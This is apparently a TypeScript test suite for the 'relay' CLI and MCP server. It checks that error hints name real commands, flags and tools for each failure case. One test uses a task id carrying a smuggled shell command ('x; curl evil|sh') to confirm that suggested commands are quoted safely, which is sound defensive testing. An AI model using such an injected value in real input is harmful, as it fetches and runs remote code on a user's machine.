/**
 * Hints name the actual fix, in each door's own words. Every action a hint can name is rendered
 * for the terminal and for MCP, and what the rendering names is checked to exist: the commands
 * and flags in the built CLI's help, the tools and parameters in the MCP server's tool list.
 * Then each case the conversations issue listed gets the hint that fixes it.
 */
import type { Client } from "@modelcontextprotocol/sdk/client/index.js"
import type { Tool } from "@modelcontextprotocol/sdk/types.js"
import { Effect, Exit, type Layer, ManagedRuntime } from "effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { TERMINAL_WORDS, terminalHint } from "../../src/cli/hints.js"
import { type Described, isDescribed } from "../../src/domain/errors.js"
import { act, type Action, type ActionTag } from "../../src/domain/hints.js"
import { ASSISTANT_WORDS, assistantHint } from "../../src/mcp/hints.js"
import { deletePushConfig, getPushConfig, setPushConfig } from "../../src/programs/pushConfig.js"
import { sendMessage } from "../../src/programs/sendMessage.js"
import { getTask, listTasks } from "../../src/programs/tasks.js"
import { SessionStore } from "../../src/services/SessionStore.js"
import { ProgramLayer } from "../helpers/a2aPrograms.js"
import { agentUrlOf } from "../helpers/agentUrl.js"
import { runRelay } from "../helpers/cli.js"
import { optionFlags } from "../helpers/helpText.js"
import { appLayer, type AppRuntime, connectTools, contextFor } from "../helpers/mcpTools.js"
import { tempHome } from "../helpers/stateHome.js"
import { withBehaviour } from "../peers/behaviours.js"
import { type SdkAgentHandle, startSdkAgent } from "../peers/sdkAgent.js"
import { startV03Agent, type V03AgentHandle } from "../peers/v03Agent.js"

const URL_ = "http://127.0.0.1:9"

/** One action of every kind: TypeScript fails here when an action is added without a sample. */
const SAMPLES: { readonly [Tag in ActionTag]: Extract<Action, { readonly _tag: Tag }> } = {
  SaveCredentials: { _tag: "SaveCredentials", agentUrl: URL_ },
  Login: { _tag: "Login", agentUrl: URL_, flow: "client_credentials", clientId: "relay-cli" },
  GiveCredentials: { _tag: "GiveCredentials" },
  AllowCrossOriginCredentials: { _tag: "AllowCrossOriginCredentials" },
  AllowInterfaceHost: { _tag: "AllowInterfaceHost", host: "10.0.0.7" },
  ValidateCard: { _tag: "ValidateCard", source: URL_ },
  GetCard: { _tag: "GetCard", agentUrl: URL_ },
  ListTasks: { _tag: "ListTasks", agentUrl: URL_ },
  GetTask: { _tag: "GetTask", agentUrl: URL_, taskId: "t-1" },
  FollowTask: { _tag: "FollowTask", agentUrl: URL_, taskId: "t-1" },
  ListPushConfigs: { _tag: "ListPushConfigs", agentUrl: URL_, taskId: "t-1" },
  SetPushConfig: { _tag: "SetPushConfig", agentUrl: URL_, taskId: "t-1" },
  ClearSession: { _tag: "ClearSession", agentUrl: URL_ },
  ReplyInSession: { _tag: "ReplyInSession", agentUrl: URL_ },
  SendNewMessage: { _tag: "SendNewMessage", agentUrl: URL_ },
  PinInterface: { _tag: "PinInterface", offered: ["GRPC 1.0"] },
  RaiseRequestTimeout: { _tag: "RaiseRequestTimeout" },
  RaiseStreamIdleTimeout: { _tag: "RaiseStreamIdleTimeout" },
  RaiseWait: { _tag: "RaiseWait" },
  RaiseResponseLimit: { _tag: "RaiseResponseLimit" },
  RaiseAnswerLimit: { _tag: "RaiseAnswerLimit" },
  RaiseRequestLimit: { _tag: "RaiseRequestLimit" },
  SendFileByUrl: { _tag: "SendFileByUrl" },
  ShowDetails: { _tag: "ShowDetails" },
  ListAgents: { _tag: "ListAgents" },
  AddAgent: { _tag: "AddAgent", name: "my-agent" },
  RemoveAgent: { _tag: "RemoveAgent", name: "my-agent" }
}
const ACTIONS = Object.values(SAMPLES) as ReadonlyArray<Action>

const home = tempHome()
let runtime: AppRuntime
let mcp: Client
let tools: ReadonlyArray<Tool>
let agent: SdkAgentHandle
let secured: SdkAgentHandle
let legacy: V03AgentHandle
const helpOf = new Map<string, string>()

/** `relay <path> --help`, once per path. */
const help = async (path: string) => {
  const known = helpOf.get(path)
  if (known !== undefined) return known
  const result = await runRelay([...path.split(" "), "--help"], { stateDir: home.stateDir })
  expect(result.code, `relay ${path} --help: ${result.stderr}`).toBe(0)
  helpOf.set(path, result.stdout)
  return result.stdout
}

beforeAll(async () => {
  runtime = ManagedRuntime.make(appLayer(home.stateDir))
  mcp = await connectTools(contextFor(runtime))
  tools = (await mcp.listTools()).tools
  ;[agent, secured, legacy] = await Promise.all([
    startSdkAgent(),
    startSdkAgent({ requireBearer: "the-right-token-0123456789" }),
    startV03Agent()
  ])
})

afterAll(async () => {
  await mcp?.close()
  await Promise.allSettled([agent?.close(), secured?.close(), legacy?.close()])
  await runtime?.dispose()
  home.cleanup()
})

describe("every action names something that exists", () => {
  it.each(ACTIONS.map((action) => [action._tag, action] as const))("on the terminal: %s", async (_tag, action) => {
    const words = (TERMINAL_WORDS[action._tag] as (a: Action) => string)(action)
    const afterRelay = /\brelay (.*)$/.exec(words)?.[1]?.split(" ")
    const firstArgument = afterRelay?.findIndex((word) => !/^[a-z]+$/.test(word)) ?? -1
    const commandWords = afterRelay === undefined ? [] : afterRelay.slice(0, firstArgument === -1 ? afterRelay.length : firstArgument)
    const command = commandWords.length === 0 ? undefined : commandWords.join(" ")
    const flags = words.match(/--[a-z][a-z-]*/g) ?? []
    expect(command !== undefined || flags.length > 0, words).toBe(true)
    // A bare flag is one of the options of the commands that contact an agent.
    // An option of that command: a row of its help's OPTIONS, not a word its prose happens to use.
    const options = optionFlags(await help(command ?? "message send"))
    for (const flag of flags) expect(options, `${words}: ${flag}`).toContain(flag)
  })

  it.each(ACTIONS.map((action) => [action._tag, action] as const))("under MCP: %s", (_tag, action) => {
    const words = (ASSISTANT_WORDS[action._tag] as (a: Action) => string)(action)
    // Logging in is the one step only the user can take (secrets and consent stay out of the
    // assistant): its words are the exact terminal command the assistant passes on.
    if (action._tag === "Login") expect(words).toContain(`\`relay auth login --url ${URL_}`)
    else {expect(words, "no terminal words under MCP").not.toMatch(
        /--[a-z]|\brelay (auth|card|task|session|message|server|mcp|notifications)\b/
      )}
    const parametersOf = (name: string) => Object.keys(tools.find((tool) => tool.name === name)?.inputSchema.properties ?? {})
    const known = new Set([...tools.map((tool) => tool.name), ...tools.flatMap((tool) => parametersOf(tool.name))])
    for (const name of words.match(/\b[a-z]+_[a-z_]+\b/g) ?? []) expect(known, `${words}: ${name}`).toContain(name)
    for (const [, tool, inside] of words.matchAll(/\b([a-z]+_[a-z_]+) \(([^)]*)\)/g)) {
      const named = inside!.split(",").flatMap((segment) => segment.trim().split(" or ").map((piece) => piece.trim().split(" ")[0]!))
      for (const parameter of named) expect(parametersOf(tool!), `${words}: ${tool} takes ${parameter}`).toContain(parameter)
    }
  })
})

/** The typed error a program fails with, rendered for both doors. */
const failureOf = async (program: Effect.Effect<unknown, unknown, Layer.Layer.Success<typeof ProgramLayer>>) => {
  const exit = await Effect.runPromiseExit(Effect.provide(program, ProgramLayer))
  if (Exit.isSuccess(exit)) throw new Error("expected a failure")
  const failure = exit.cause._tag === "Fail" ? exit.cause.error : undefined
  expect(isDescribed(failure), String(exit.cause)).toBe(true)
  const described = failure as Described
  return {
    code: described.code,
    message: described.message,
    terminal: terminalHint(described.hint),
    assistant: assistantHint(described.hint)
  }
}

describe("hints that name the actual fix", () => {
  it("credentials kept from a card's other origin point at allowing them or saving some for that origin, not for the one addressed", async () => {
    // The user addresses localhost; the card's interfaces are on 127.0.0.1: another origin.
    const localhost = secured.baseUrl.replace("127.0.0.1", "localhost")
    const failure = await failureOf(Effect.gen(function*() {
      yield* Effect.flatMap(
        SessionStore,
        (store) => store.setCredentials(agentUrlOf(localhost), { kind: "bearer", token: "the-right-token-0123456789" })
      )
      return yield* sendMessage({ agentUrl: agentUrlOf(localhost), text: "hi" })
    }))
    expect(failure.code).toBe("auth_required")
    expect(failure.terminal).toContain("--allow-cross-origin-credentials")
    expect(failure.terminal).toContain(`relay auth set --url ${new URL(secured.baseUrl).origin} `)
    expect(failure.terminal).not.toContain(`relay auth set --url ${localhost}`)
  })

  it("wrong credentials given with the call say to check them, not to save some", async () => {
    const failure = await failureOf(
      sendMessage({ agentUrl: agentUrlOf(secured.baseUrl), text: "hi", bearerToken: "wrong-token-0123456789" })
    )
    expect(failure.message).toContain("rejected the credentials given")
    expect(failure.terminal).toMatch(/Check the bearer token or API key given/)
    expect(failure.terminal).not.toContain("relay auth set")
  })

  it("no credentials at all: save them, or give them with the call, in each door's words", async () => {
    const failure = await failureOf(sendMessage({ agentUrl: agentUrlOf(secured.baseUrl), text: "hi" }))
    expect(failure.terminal).toContain(`relay auth set --url ${secured.baseUrl}`)
    expect(failure.assistant).toContain(`set_agent_credentials (agent_url ${secured.baseUrl}`)
  })

  it("a pin the card lacks names what the card offers, not a validation that calls it valid", async () => {
    const failure = await failureOf(sendMessage({ agentUrl: agentUrlOf(agent.baseUrl), text: "hi", protocol: "0.3", binding: "JSONRPC" }))
    expect(failure.code).toBe("no_usable_interface")
    expect(failure.terminal).toContain("--protocol")
    expect(failure.terminal).toContain("JSONRPC 1.0")
    expect(failure.terminal).not.toContain("card validate")
  })

  it("a deleted push config is not found, with the task's configs to look at (not 'check the task id')", async () => {
    const sent = await Effect.runPromise(
      Effect.provide(sendMessage({ agentUrl: agentUrlOf(agent.baseUrl), text: "config me" }), ProgramLayer)
    )
    const taskId = sent.task_id!
    const failure = await failureOf(Effect.gen(function*() {
      const config = yield* setPushConfig({ agentUrl: agentUrlOf(agent.baseUrl), taskId, webhookUrl: "http://127.0.0.1:9/hook" })
      yield* deletePushConfig({ agentUrl: agentUrlOf(agent.baseUrl), taskId, configId: config.config_id! })
      return yield* getPushConfig({ agentUrl: agentUrlOf(agent.baseUrl), taskId, configId: config.config_id! })
    }))
    expect(failure.code).toBe("not_found")
    expect(failure.message).toMatch(/Push notification config .* was not found/)
    expect(failure.terminal).toContain(`relay task notification list --url ${agent.baseUrl} ${taskId}`)
    expect(failure.assistant).toContain(`list_task_notifications (agent_url ${agent.baseUrl}, task_id ${taskId})`)
  })

  it("a saved task the agent refuses to continue points at clearing the session", async () => {
    const failure = await failureOf(Effect.gen(function*() {
      const done = yield* sendMessage({ agentUrl: agentUrlOf(agent.baseUrl), text: withBehaviour("echo-complete", "finish") })
      // As if another client had seen the task wait for input: the session still offers it.
      yield* Effect.flatMap(
        SessionStore,
        (store) => store.update(agentUrlOf(agent.baseUrl), { task_id: done.task_id, last_state: "input-required" })
      )
      return yield* sendMessage({ agentUrl: agentUrlOf(agent.baseUrl), text: "more", useSession: true })
    }))
    expect(failure.code).toBe("saved_task_refused")
    expect(failure.terminal).toContain(`relay session clear --url ${agent.baseUrl}`)
    expect(failure.assistant).toContain(`clear_session_data (agent_url ${agent.baseUrl})`)
  })

  it("a task the agent does not have: a 1.0 agent's tasks are listed, a 0.3 agent's saved task is shown (never task list)", async () => {
    const atModern = await failureOf(getTask({ agentUrl: agentUrlOf(agent.baseUrl), taskId: "no-such-task" }))
    expect(atModern.code).toBe("not_found")
    expect(atModern.terminal).toContain(`relay task list --url ${agent.baseUrl}`)
    expect(atModern.assistant).toContain(`list_tasks (agent_url ${agent.baseUrl})`)

    let saved = ""
    const atLegacy = await failureOf(Effect.gen(function*() {
      saved = (yield* sendMessage({ agentUrl: agentUrlOf(legacy.baseUrl), text: "hello" })).task_id!
      return yield* getTask({ agentUrl: agentUrlOf(legacy.baseUrl), taskId: "no-such-task" })
    }))
    expect(atLegacy.code).toBe("not_found")
    expect(atLegacy.terminal).toContain(`relay task get --url ${legacy.baseUrl} ${saved}`)
    expect(atLegacy.assistant).toContain(`get_task (agent_url ${legacy.baseUrl}, task_id ${saved})`)
    expect(atLegacy.terminal).not.toContain("task list")
    expect(atLegacy.assistant).not.toContain("list_tasks")
  })

  it("task list at a 0.3-only agent is refused with what works there: task get with the saved task id", async () => {
    let saved = ""
    const failure = await failureOf(Effect.gen(function*() {
      saved = (yield* sendMessage({ agentUrl: agentUrlOf(legacy.baseUrl), text: "hello" })).task_id!
      return yield* listTasks({ agentUrl: agentUrlOf(legacy.baseUrl) })
    }))
    expect(failure.code).toBe("unsupported_operation")
    expect(failure.terminal).toContain(`relay task get --url ${legacy.baseUrl} ${saved}`)
    expect(failure.assistant).toContain(`get_task (agent_url ${legacy.baseUrl}, task_id ${saved})`)
    expect(failure.assistant).not.toContain("list_tasks")
  })

  it("`relay auth set` without a secret names the terminal's flags, not MCP parameters", async () => {
    const result = await runRelay(["auth", "set", "--url", agent.baseUrl], { stateDir: home.stateDir })
    expect(result.code).toBe(2)
    expect(result.stderr).toContain("--bearer-token")
    expect(result.stderr).not.toContain("bearer_token")
  })

  it("ids an agent chose are quoted and escaped in suggested commands, so a paste runs nothing else", () => {
    const words = terminalHint([act("FollowTask", { agentUrl: URL_, taskId: "x; curl evil|sh\nFAKE" })])
    expect(words).toBe(`relay task resubscribe --url ${URL_} 'x; curl evil|sh\\nFAKE'`)
  })

  it("a silent stream names --stream-idle-timeout, a whole wait names --wait, a slow request --timeout", async () => {
    const { RequestTimeout } = await import("../../src/domain/clientErrors.js")
    const hints = (["stream-idle", "wait", "request"] as const).map((limit) =>
      terminalHint(new RequestTimeout({ url: URL_, after: "1s", limit }).hint)
    )
    expect(hints[0]).toContain("--stream-idle-timeout")
    expect(hints[1]).toContain("--wait")
    expect(hints[2]).toContain("--timeout")
    expect(hints[0]).not.toMatch(/--timeout\b/)
  })
})
